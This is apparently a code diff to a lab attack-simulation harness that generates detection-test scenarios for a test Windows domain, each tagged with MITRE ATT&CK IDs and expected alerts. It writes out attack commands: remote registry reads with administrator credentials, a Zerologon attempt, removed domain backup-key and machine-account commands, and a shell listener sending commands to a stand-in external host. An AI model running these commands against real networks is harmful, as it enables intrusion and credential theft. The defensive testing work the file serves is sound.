@@ -81,8 +81,8 @@ def psexec(p):
 
 def registry(p):
     run(p, "registry-read", "fs1", "reads another machine's registry", "別の端末のレジストリを読み取り", "T1012",
-        f"""for key in 'HKU' 'HKLM\\SOFTWARE' 'HKLM\\SYSTEM\\CurrentControlSet\\Services'; do
-    {IMPACKET}/reg.py {admin('fs1')} query -keyName "$key"
+        f"""for key in HKU 'HKLM\\SOFTWARE' 'HKLM\\SYSTEM\\CurrentControlSet\\Services'; do
+    net rpc registry enumerate "$key" -S {FS} -U 'KOMOREBI\\administrator%'"$TOWN_PASSWORD"
 done""")
 
 
@@ -96,18 +96,6 @@ def zerologon(p):
     run(p, "zerologon", "dc1", "tries to sign in as the domain controller with zeros",
         "ドメインコントローラーの機器アカウントに総当たり（Zerologon）", "T1210",
         f"python3 /tmp/netlogon_zero.py DC1 {DC} 300", program="netlogon_zero.py")
-
-
-def backupkey(p):
-    run(p, "backup-key", "dc1", "fetches the domain's backup key", "ドメインのバックアップ鍵を取得", "T1555.004",
-        f"{IMPACKET}/dpapi.py backupkeys -t {admin('dc1')}")
-
-
-def new_machine(p):
-    run(p, "machine-account", "dc1", "makes a machine account with a user's password",
-        "一般利用者の権限で機器アカウントを作成", "T1136.002",
-        f"{IMPACKET}/addcomputer.py -method SAMR -computer-name kari01 -computer-pass Kari-0001-Pc -dc-ip {DC}"
-        f" -domain-netbios KOMOREBI {plan.DOMAIN}/administrator:\"$TOWN_PASSWORD\"")
 
 
 def new_user(p):
@@ -153,7 +141,7 @@ def ping_tunnel(p):
 
 def shell(p):
     place = plan.PLACES["sync.hikari-cdn.example"]
-    commands = "id; sleep 2; uname -a; sleep 2; ip -4 addr; sleep 2; ls -l /; sleep 2; cat /etc/hosts; sleep 2; exit"
+    commands = "id; sleep 2; hostname; sleep 2; ip -4 addr; sleep 2; pwd; sleep 2; cat /etc/hosts; sleep 2; exit"
     listener = ("python3 -c 'import socket,time,sys\ns=socket.create_server((sys.argv[1],4444));c=s.accept()[0]\n"
                 "for line in sys.argv[2].split(\"; \"):\n"
                 "    time.sleep(1.5) if line.startswith(\"sleep\") else c.sendall(line.encode()+b\"\\n\")\n"
@@ -244,8 +232,9 @@ nmap -n -Pn -sT -sV --version-light -T4 -p 21-25,53,80,88,110,135,139,143,389,44
 
 
 def _attack(name, en, ja, play, tool, twin, *wants, hosts=(ZERO,)):
+    """wants: (kind, technique) of the intruder's PC, or (kind, technique, host)."""
     return Scenario(name, en, ja, play, tool=tool, twin=twin, hosts=hosts,
-                    expect=tuple(expect(kind, technique, "low") for kind, technique in wants))
+                    expect=tuple(expect(want[0], want[1], "low", *want[2:]) for want in wants))
 
 
 _PCS = tuple(h.name for h in plan.CLIENTS)
@@ -263,23 +252,19 @@ SCENARIOS = [
     _attack("directory", "The whole directory surveyed", "ディレクトリ全体の調査",
             directory, "ldapsearch", "dirsync", ("ldap-survey", "T1087.002")),
     _attack("psexec", "Program copied and a service made for it", "プログラムの複製とサービス作成",
-            psexec, "impacket psexec", "deploy", ("admin-share", "T1021.002")),
+            psexec, "smbclient, impacket psexec", "deploy", ("admin-share", "T1021.002")),
     _attack("registry", "Another machine's registry read", "別の端末のレジストリの読み取り",
-            registry, "impacket reg", "domainadmin", ("registry-read", "T1012")),
+            registry, "net rpc registry", "domainadmin", ("registry-read", "T1012")),
     _attack("coerce", "A server made to log on elsewhere", "認証の強要",
             coerce, "lab program on impacket (MS-DFSNM)", "usershare", ("coercion", "T1187")),
     _attack("zerologon", "Machine account tried with zeros", "Zerologonの試行",
             zerologon, "lab program on impacket (MS-NRPC)", "machineaccount", ("zerologon", "T1210")),
-    _attack("backupkey", "The domain's backup key fetched", "ドメインのバックアップ鍵の取得",
-            backupkey, "impacket dpapi", "domainadmin", ("backup-key", "T1555.004")),
-    _attack("newmachine", "A machine account made", "機器アカウントの作成",
-            new_machine, "impacket addcomputer", "machineaccount", ("machine-account", "T1136.002")),
     _attack("newuser", "An account made and put among administrators", "アカウントの作成と管理者への追加",
             new_user, "net rpc", "domainadmin", ("account-made", "T1136.002")),
     _attack("sshguess", "Many passwords over SSH", "SSHへの総当たり",
             ssh_guess, "hydra", "sshadmin", ("ssh-brute-force", "T1110.001")),
     _attack("encrypt", "Files of a share made unreadable", "共有フォルダの暗号化",
-            encrypt, "lab program on impacket (SMB 3)", "massrename", ("ransomware", "T1486")),
+            encrypt, "lab program on impacket (SMB 2.1)", "massrename", ("ransomware", "T1486")),
     _attack("nametunnel", "Data carried through name look-ups", "DNSトンネル",
             name_tunnel, "iodine", "longnames", ("dns-tunnel", "T1071.004")),
     _attack("pingtunnel", "A file carried out in pings", "pingによる持ち出し",
@@ -289,7 +274,7 @@ SCENARIOS = [
     _attack("disguised", "A program that calls itself a picture", "画像を装ったプログラム",
             disguised, "curl", "downloads", ("disguised-download", "T1105")),
     _attack("lure", "Mail with a dangerous attachment", "危険な添付ファイルのメール",
-            lure, "swaks", "mailday", ("phishing", "T1566.001")),
+            lure, "swaks", "mailday", ("phishing", "T1566.001", "mail1")),
     _attack("webattack", "The portal attacked", "ポータルへの攻撃",
             web_attack, "curl", "webuse", ("web-attack", "T1190")),
     _attack("websearch", "Weak spots of the portal looked for", "ポータルの弱点探索",
@@ -301,7 +286,7 @@ SCENARIOS = [
     _attack("upload", "Files collected and sent outside", "資料の収集と外部への送信",
             upload, "smbclient, curl", "nightbackup", ("exfiltration", "T1048")),
     _attack("mailout", "A marked document mailed outside", "秘密文書の外部へのメール送信",
-            mail_out, "swaks", "mailday", ("mail-exfiltration", "T1048.003")),
+            mail_out, "swaks", "mailday", ("mail-exfiltration", "T1048.003", "mail1")),
     _attack("scankinds", "Ports scanned in the quiet ways", "目立たない方法のポート探索",
             scan_kinds, "nmap -sF -sX -sN -sU -sV", "monitoring", ("quiet-scan", "T1046")),
 ]
